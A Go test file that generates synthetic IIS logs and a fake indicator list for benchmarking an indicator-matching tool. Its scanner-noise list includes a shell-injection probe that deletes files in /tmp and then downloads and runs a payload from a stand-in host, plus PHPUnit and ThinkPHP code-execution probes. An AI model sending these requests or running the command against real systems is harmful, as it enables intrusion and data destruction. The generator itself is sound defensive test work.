package postern_test

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var (
	trafficDir  = flag.String("traffic", "", "write made traffic and a list of indicators into this folder, to measure the command with")
	trafficSize = flag.Int("traffic-mib", 256, "MiB of it")
)

// TestTraffic writes what the benchmarks read, for the command and for others to
// read: go test . -run 'TestTraffic$' -traffic /tmp/traffic.
func TestTraffic(t *testing.T) {
	if *trafficDir == "" {
		t.Skip("no -traffic folder given")
	}
	for _, kind := range []string{"ordinary", "encoded", "listed", "same"} {
		f, err := os.Create(filepath.Join(*trafficDir, kind+".log"))
		if err != nil {
			t.Fatal(err)
		}
		out := bufio.NewWriterSize(f, 1<<20)
		writeTraffic(out, kind, int64(*trafficSize)<<20)
		if err := out.Flush(); err != nil {
			t.Fatal(err)
		}
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(*trafficDir, "indicators.txt"), []byte(strings.Join(listed(5000), "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
}

// traffic makes the lines of an IIS log, the same ones every time.
type traffic struct {
	*rand.Rand
	agents, clients, names []string
	list                   []string // indicators that lines may name
	kind                   string
	out                    io.Writer
}

// The kinds of traffic: ordinary has some percent of encoded requests, a few
// scanners and one indicator in 20,000 lines; encoded spells every request with
// percent signs; listed names an indicator in every line; same is one line again
// and again.
func writeTraffic(out io.Writer, kind string, size int64) {
	m := &traffic{Rand: rand.New(rand.NewPCG(7, 11)), kind: kind, list: listed(5000)}
	m.prepare()
	var line bytes.Buffer
	line.WriteString("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-01-17 00:00:00\r\n" +
		"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n")
	m.out = &line
	for n, second := int64(0), 0; n < size; second++ {
		if second == 0 || kind != "same" {
			m.line(second / 40 % 86400)
		}
		wrote, err := out.Write(line.Bytes())
		if err != nil {
			panic(err)
		}
		n += int64(wrote)
		if kind != "same" {
			line.Reset()
		} else if second == 0 {
			line.Next(bytes.Index(line.Bytes(), []byte("\n2026-")) + 1)
		}
	}
}

// words are what paths, names and queries are made of.
var words = strings.Fields(`account address admin agenda alert album alias api app archive article asset attach audio auth avatar backup badge basket beacon
	billing blog board book branch brand build bundle button calendar call campaign card cart catalog category channel chart chat check client code color comment
	common company compose config contact content control core country coupon course custom dashboard data date default delivery demo design detail device dialog
	digest discount docs domain download draft drive editor email entry event export feature feed field file filter finance folder font footer form forum forward
	gallery game gift graph grid group guide header health help history home host icon image import inbox index info input invoice item job journal key label
	language launch layout lead letter library license link list local location lock logo lookup loop mail main manager manual map market master media meeting
	member menu merge message meta mobile model module monitor movie music name nav network news note notice number object offer office option order outbox owner
	package page panel paper partner part password patch payment people phone photo plan player plugin point poll portal post prefs press preview price print
	privacy product profile project promo public quote range rate reader receipt record region release reminder render reply report request resource result review
	role room root route rule sale sample save schedule script search section secure send server service session setting setup share shop sidebar sign site size
	slide social source space special staff stage start state static status step stock storage store stream style submit summary support survey sync system table
	task team template term test theme thread ticket time title token tool topic total track traffic training transfer translate tree trial trend type unit update
	upload user utility value vendor version video view visit volume vote voucher wallet web widget wiki window wizard work zone`)

// prepare makes the clients, their browsers and the names of their machines.
func (m *traffic) prepare() {
	systems := []string{"Windows+NT+10.0;+Win64;+x64", "Windows+NT+6.1;+WOW64", "Macintosh;+Intel+Mac+OS+X+10_15_7", "X11;+Linux+x86_64", "Linux;+Android+13;+SM-A536B", "iPhone;+CPU+iPhone+OS+17_4+like+Mac+OS+X"}
	for range 900 {
		system := systems[m.IntN(len(systems))]
		switch m.IntN(8) {
		case 0:
			v := 90 + m.IntN(50)
			m.agents = append(m.agents, fmt.Sprintf("Mozilla/5.0+(%s;+rv:%d.0)+Gecko/20100101+Firefox/%d.0", system, v, v))
		case 1:
			m.agents = append(m.agents, fmt.Sprintf("Mozilla/5.0+(%s)+AppleWebKit/605.1.15+(KHTML,+like+Gecko)+Version/17.%d+Mobile/15E%d+Safari/604.1", system, m.IntN(6), 100+m.IntN(50)))
		case 2:
			m.agents = append(m.agents, fmt.Sprintf("Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.%d;+Pro)", 10000+m.IntN(9000)))
		case 3:
			m.agents = append(m.agents, fmt.Sprintf("Apple-iPhone%dC%d/2%d%c%d", 10+m.IntN(6), 1+m.IntN(5), m.IntN(9), 'A'+m.IntN(6), 100+m.IntN(300)))
		default:
			m.agents = append(m.agents, fmt.Sprintf("Mozilla/5.0+(%s)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/%d.0.%d.%d+Safari/537.36", system, 100+m.IntN(40), 4000+m.IntN(3000), m.IntN(200)))
		}
	}
	m.agents = append(m.agents, "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)", "Mozilla/5.0+(compatible;+bingbot/2.0;++http://www.bing.com/bingbot.htm)", "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1")
	for range 20_000 {
		m.clients = append(m.clients, fmt.Sprintf("%d.%d.%d.%d", 1+m.IntN(222), m.IntN(256), m.IntN(256), 1+m.IntN(254)))
	}
	for range 300 {
		m.names = append(m.names, fmt.Sprintf("%s.%s-%s.%s", m.word(), m.word(), m.word(), []string{"com", "net", "org", "de", "example"}[m.IntN(5)]))
	}
}

func (m *traffic) word() string { return words[m.IntN(len(words))] }

// path is one of a mail server's and of the sites beside it.
func (m *traffic) path() string {
	switch n := m.IntN(100); {
	case n < 25:
		return fmt.Sprintf("/api/v1/%s/%s", m.word(), m.word())
	case n < 35:
		return fmt.Sprintf("/api/v1/%s/%s/%d", m.word(), m.word(), m.IntN(1_000_000))
	case n < 45:
		return "/Microsoft-Server-ActiveSync"
	case n < 60:
		return fmt.Sprintf("/interface/app/%s/%s-%s.html", m.word(), m.word(), m.word())
	case n < 75:
		return fmt.Sprintf("/%s/%s.%s.%s", m.word(), m.word(), []string{"min", "bundle", "v2", "chunk"}[m.IntN(4)], []string{"js", "css", "png", "svg", "woff2"}[m.IntN(5)])
	case n < 80:
		return fmt.Sprintf("/%s/%s/%s.aspx", m.word(), m.word(), m.word())
	case n < 88:
		return fmt.Sprintf("/%s-%s/%s/%s", m.word(), m.word(), m.word(), m.word())
	case n < 96:
		return "/interface/root"
	}
	return []string{"/", "/favicon.ico", "/robots.txt", "/autodiscover/autodiscover.xml", "/signalr/negotiate", "/.well-known/acme-challenge/" + m.word(), "/webmail/" + m.word()}[m.IntN(7)]
}

func (m *traffic) query() string {
	switch n := m.IntN(100); {
	case n < 45:
		return "-"
	case n < 60:
		return fmt.Sprintf("v=100.0.%d", 9000+m.IntN(800))
	case n < 70:
		return fmt.Sprintf("Cmd=%s&User=%s.%s&DeviceId=%X&DeviceType=iPhone", []string{"Sync", "Ping", "FolderSync", "ItemOperations"}[m.IntN(4)], m.word(), m.word(), m.Uint64())
	case n < 80:
		return fmt.Sprintf("%s=%d&_=%d", m.word(), m.IntN(5000), 1768600000000+m.IntN(1e9))
	case n < 88:
		return fmt.Sprintf("q=%s+%s&page=%d&sort=%s", m.word(), m.word(), m.IntN(40), m.word())
	}
	return fmt.Sprintf("%s=%s&%s=%s&id=%08x", m.word(), m.word(), m.word(), m.word(), m.Uint32())
}

// scanned are requests that every server on the internet sees each day.
var scanned = []string{"/.env -", "/wp-login.php -", "/.git/config -", "/cgi-bin/luci/;stok=/locale form=country", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php -", "/owa/auth/logon.aspx url=https%3a%2f%2f192.0.2.10%2fecp%2f",
	"/shell cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/jaws;sh+/tmp/jaws", "/index.php s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "/actuator/health -", "/boaform/admin/formLogin username=user&psd=user"}

// encodedForm spells a request with percent signs as clients do.
func (m *traffic) encodedForm(path, query string) (string, string) {
	switch m.IntN(4) {
	case 0:
		path += "/" + m.word() + "%20" + m.word() + ".pdf"
	case 1:
		query = fmt.Sprintf("returnUrl=%%2f%s%%2f%s%%3fid%%3d%d", m.word(), m.word(), m.IntN(900))
	case 2:
		query = fmt.Sprintf("filter=%s%%20eq%%20%%27%s%%27&top=%d", m.word(), m.word(), m.IntN(100))
	default:
		query = fmt.Sprintf("email=%s.%s%%40%s&lang=%s", m.word(), m.word(), m.names[m.IntN(len(m.names))], m.word())
	}
	return path, query
}

// line writes one request of a second of the day.
func (m *traffic) line(second int) {
	path, query, client, status := m.path(), m.query(), m.clients[m.IntN(len(m.clients))], 200
	switch n := m.IntN(1000); {
	case n < 40 || m.kind == "encoded":
		path, query = m.encodedForm(path, query)
	case n < 45:
		path, query, _ = strings.Cut(scanned[m.IntN(len(scanned))], " ")
		status = 404
	case n < 140:
		status = []int{302, 304, 401, 404, 500}[m.IntN(5)]
	}
	referer := "-"
	if m.IntN(100) < 40 {
		referer = fmt.Sprintf("https://%s/%s/%s", m.names[m.IntN(len(m.names))], m.word(), m.word())
	}
	if m.kind == "listed" || m.IntN(20_000) == 0 {
		switch ind := m.list[m.IntN(len(m.list)*7/10)]; {
		case strings.HasPrefix(ind, "http"):
			query = "url=" + ind
		case ind[0] >= '0' && ind[0] <= '9':
			client = ind
		default:
			referer = "http://" + ind + "/"
		}
	}
	user := "-"
	if m.IntN(10) == 0 {
		user = m.word() + "@" + m.names[m.IntN(len(m.names))]
	}
	fmt.Fprintf(m.out, "2026-01-17 %02d:%02d:%02d 192.0.2.10 %s %s %s 443 %s %s %s %s %d 0 0 %d\r\n", second/3600, second/60%60, second%60,
		[]string{"GET", "GET", "GET", "POST"}[m.IntN(4)], path, query, user, client, m.agents[m.IntN(len(m.agents))], referer, status, m.IntN(900))
}

// listed makes a list of indicators: two of five addresses, a quarter names, a
// few URLs, the rest hashes and paths.
func listed(n int) []string {
	m := &traffic{Rand: rand.New(rand.NewPCG(3, 5))}
	var all []string
	for i := range n {
		switch at := i * 100 / n; {
		case at < 40:
			all = append(all, fmt.Sprintf("%d.%d.%d.%d", 1+m.IntN(222), m.IntN(256), m.IntN(256), 1+m.IntN(254)))
		case at < 65:
			all = append(all, fmt.Sprintf("%s%s%d.%s", m.word(), m.word(), m.IntN(100), []string{"com", "top", "xyz", "info", "ru"}[m.IntN(5)]))
		case at < 70:
			all = append(all, fmt.Sprintf("http://%s-%s.%s/%s/%s.php", m.word(), m.word(), []string{"com", "top", "cc"}[m.IntN(3)], m.word(), m.word()))
		case at < 90:
			all = append(all, fmt.Sprintf("%016x%016x%016x%016x", m.Uint64(), m.Uint64(), m.Uint64(), m.Uint64()))
		default:
			all = append(all, fmt.Sprintf(`C:\ProgramData\%s\%s%d.exe`, m.word(), m.word(), m.IntN(100)))
		}
	}
	return all
}
